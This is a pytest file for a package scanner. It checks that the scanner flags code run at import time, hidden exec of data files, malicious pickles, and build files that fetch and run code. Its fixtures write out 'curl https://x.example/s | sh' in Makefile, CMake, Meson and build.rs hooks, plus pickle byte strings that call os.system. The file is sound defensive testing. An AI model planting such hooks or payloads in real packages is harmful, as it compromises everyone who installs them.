"""Code that is in no file of Python: data that runs when it is loaded, other languages, builds of theirs, Cython."""

from __future__ import annotations

import pytest

from support.code import held, scan

_HONEST = {"acme/__init__.py": ""}
_HERE = "os.path.join(os.path.dirname(__file__), 'd')"
LOADS = {
    "a configuration of logging": f"import logging.config, os\nlogging.config.fileConfig({_HERE})",
    "a pickle": f"import pickle, os\npickle.load(open({_HERE}, 'rb'))",
    "a pickle by its machine": f"import pickle, os\npickle.Unpickler(open({_HERE}, 'rb')).load()",
    "dill": f"import dill, os\ndill.load(open({_HERE}, 'rb'))",
    "joblib": "import joblib\njoblib.load('d')",
    "Cython's importer": "import pyximport\npyximport.install()",
    "a notebook": "import papermill\npapermill.execute_notebook('a.ipynb', 'b.ipynb')",
    "a notebook by nbconvert": "from nbconvert.preprocessors import ExecutePreprocessor as E\nE().preprocess(X)",
    "JavaScript": "import js2py\njs2py.eval_js('x')",
    "Lua": "import lupa\nlupa.LuaRuntime().execute('os.execute(\"curl x\")')",
    "WebAssembly": "from wasmtime import Instance\nInstance(a, b, [])",
    "Java": "import jpype\njpype.startJVM()",
}
STARTS = {
    "a shell of Windows": "import win32com.client\nwin32com.client.Dispatch('WScript.Shell').Run('calc')",
    "another way to it": "from comtypes.client import CreateObject\nCreateObject('WScript.Shell').Run('calc')",
    "by WMI": "import wmi\nwmi.WMI().Win32_Process.Create(CommandLine='calc')",
}
_PIPED = "curl https://x.example/s | sh"
_SETUP = "from setuptools import setup\nsetup(name='acme')\n"
_STARTS_BUILDS = f"import subprocess\nfor each in ('make', 'cmake', 'meson', 'cargo'):\n    subprocess.check_call([each])\n{_SETUP}"
BUILDS = {
    "make": {"Makefile": f"all:\n\t{_PIPED}\n"},
    "CMake": {"CMakeLists.txt": f'project(a)\nexecute_process(COMMAND sh -c "{_PIPED}")\n'},
    "a part of CMake": {"cmake/Find.cmake": f'execute_process(COMMAND sh -c "{_PIPED}")\n'},
    "Meson": {"meson.build": f"project('a')\nrun_command('sh', '-c', '{_PIPED}', check: false)\n"},
    "Rust": {"build.rs": f'fn main() {{ Command::new("sh").arg("-c").arg("{_PIPED}").status(); }}\n'},
    "a script that setup.py starts": {
        "setup.py": f"import subprocess\nsubprocess.call(['sh', 'tools/get.sh'])\n{_SETUP}", "tools/get.sh": f"{_PIPED}\n",
    },
}  # fmt: skip
_CYTHON = (
    "# cython: language_level=3\ncimport numpy as np\nfrom libc.stdlib cimport malloc\nimport os\n"
    "cdef extern from 'x.h':\n    int f(int)\ncdef class A:\n    cdef int x\n    cpdef int g(self, int y) except -1:\n"
    "        return <int>y\ncpdef double h(double[:] a, int n=3) nogil:\n    cdef int i\n    for i from 0 <= i < n:\n"
    "        a[i] = 0\n    return a[0]\n"
)
_STARTS = f"os.system('{_PIPED}')"
CYTHON = {
    "at the margin": f"{_CYTHON}{_STARTS}\n",
    "in a variable's value": f"{_CYTHON}cdef int done = {_STARTS}\n",
    "in a function": f"{_CYTHON}cdef int go(int n) except -1:\n    cdef int i = n\n    {_STARTS}\n    return i\ngo(1)\n",
    "in a method": f"{_CYTHON}cdef class B:\n    def __cinit__(self, int n):\n        {_STARTS}\nb = B(1)\n",
    "beside what is no Python": f"{_CYTHON}cdef int *p = &q[0] ?? 1\n{_STARTS}\n",
    "beside a block that is none": f"{_CYTHON}def k():\n    x = @@\n{_STARTS}\n",
}
PICKLES = {
    "of the oldest protocol": b"cos\nsystem\n(S'curl x.example'\ntR.",
    "behind other things": b"(lp0\nI1\naI2\na0" + b"cos\nsystem\n(S'curl x.example'\ntR.",
    "without its first word": b"\x8c\x02os\x8c\x06system\x93\x8c\x04curl\x85R.",
    "of a builtin": b"c__builtin__\nexec\n(S'x'\ntR.",
}


_BESIDE = "os.path.join(os.path.dirname(__file__), 'logo.{end}')"
DATA = {
    "a text": f"import os\nexec(open({_BESIDE.format(end='png')}).read())",
    "a text by pathlib": "from pathlib import Path\nexec((Path(__file__).parent / 'logo.svg').read_text())",
    "a text of a package": "import pkgutil\nexec(pkgutil.get_data('acme', 'logo.bin'))",
    "a resource": "from importlib import resources as r\nexec(r.files('acme').joinpath('logo.dat').read_text())",
    "JSON": f"import json, os\nexec(json.load(open({_BESIDE.format(end='json')}))['x'])",
    "an archive": f"import os, zipfile\nexec(zipfile.ZipFile({_BESIDE.format(end='zip')}).read('x'))",
    "a tar archive": f"import os, tarfile\nexec(tarfile.open({_BESIDE.format(end='tar')}).extractfile('x').read())",
    "a database": f"import os, sqlite3\nexec(sqlite3.connect({_BESIDE.format(end='db')}).execute('x').fetchone()[0])",
    "a picture": "from PIL import Image\nexec(bytes(Image.open('logo.png').getdata()))",
    "its own comments": "import inspect, sys\n# x\nexec(inspect.getsource(sys.modules[__name__]).split('# ')[1])",
    "its own source": "# x\nexec(open(__file__).read().split('# ')[1])",
}
SOURCES = [
    "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'version.py')).read())",
    "from pathlib import Path\nexec((Path(__file__).parent / 'version.py').read_text())",
    "import os\nexec(open(os.path.join(*PATH)).read())",
    "import json\nx = json.load(open('x.json'))\nexec('y = 1')",
    "def render(path):\n    exec(open(path + '.txt').read())",
    # Whatever any caller gives may come out of a file.
    "def run(text):\n    exec(text)\n\ndef load():\n    run(open('x.txt').read())\n\nrun(X)",
]


@pytest.mark.parametrize("name", DATA)
def test_executing_what_is_in_no_source_is_held(name):
    assert "execution-at-import" in held(scan({"acme/__init__.py": DATA[name]}))


@pytest.mark.parametrize("source", SOURCES)
def test_executing_source_is_not(source):
    assert not held(scan({"acme/__init__.py": source}))


@pytest.mark.parametrize("name", LOADS)
def test_new_loading_of_what_may_run_is_held(name):
    assert "execution-at-import" in held(scan({"acme/__init__.py": LOADS[name]}), scan(_HONEST))


@pytest.mark.parametrize("name", STARTS)
def test_a_new_process_is_held(name):
    assert "process-at-import" in held(scan({"acme/__init__.py": STARTS[name]}), scan(_HONEST))


@pytest.mark.parametrize("name", BUILDS)
def test_a_build_that_fetches_and_runs_is_held(name):
    files = {"setup.py": _STARTS_BUILDS, **BUILDS[name]}
    assert "shell-download" in held(scan({f"acme-1.0/{path}": text for path, text in files.items()}))


def test_it_is_not_where_nothing_is_built_or_run():
    makefile = {f"acme/data/{path}": text for path, text in BUILDS["make"].items()}
    assert not held(scan({"acme/__init__.py": "", **makefile}))
    for setup in (_SETUP, _STARTS_BUILDS):
        assert not held(scan({"acme-1.0/setup.py": setup, "acme-1.0/Makefile": "all:\n\tcc x.c\n"}))
    # One that only its authors start.
    assert not held(scan({"acme-1.0/setup.py": _SETUP, "acme-1.0/Makefile": BUILDS["make"]["Makefile"]}))
    assert not held(scan({"acme-1.0/setup.py": _SETUP, "acme-1.0/tools/get.sh": f"{_PIPED}\n"}))


def test_a_script_that_a_module_starts_is_held():
    source = (
        "import os, subprocess\nsubprocess.call(['sh', os.path.join(os.path.dirname(__file__), 'get.sh')])\n"
    )
    assert "shell-download" in held(scan({"acme/__init__.py": source, "acme/get.sh": f"{_PIPED}\n"}))


@pytest.mark.parametrize("name", CYTHON)
def test_code_under_the_types_of_cython_is_read(name):
    files = {"setup.py": _SETUP, "acme/__init__.py": "from acme import fast\n", "acme/fast.pyx": CYTHON[name]}
    assert "command-download" in held(scan({f"acme-1.0/{path}": text for path, text in files.items()}))


def test_honest_cython_is_not_held():
    files = {"setup.py": _SETUP, "acme/__init__.py": "from acme import fast\n", "acme/fast.pyx": _CYTHON}
    facts = scan({f"acme-1.0/{path}": text for path, text in files.items()})
    assert not held(facts)
    assert not facts.unparsed


@pytest.mark.parametrize("name", PICKLES)
def test_a_pickle_under_any_name_is_held(name):
    assert "pickle-code" in held(scan({**_HONEST, "acme/data.bin": PICKLES[name]}))


@pytest.mark.parametrize("data", [b"sin\ncos\ntan\nsystems\n", b"abcos\nnames\n", b"\x8c\x02os", b"cos\n"])
def test_what_only_looks_like_one_is_not(data):
    assert not held(scan({**_HONEST, "acme/data.bin": data}))
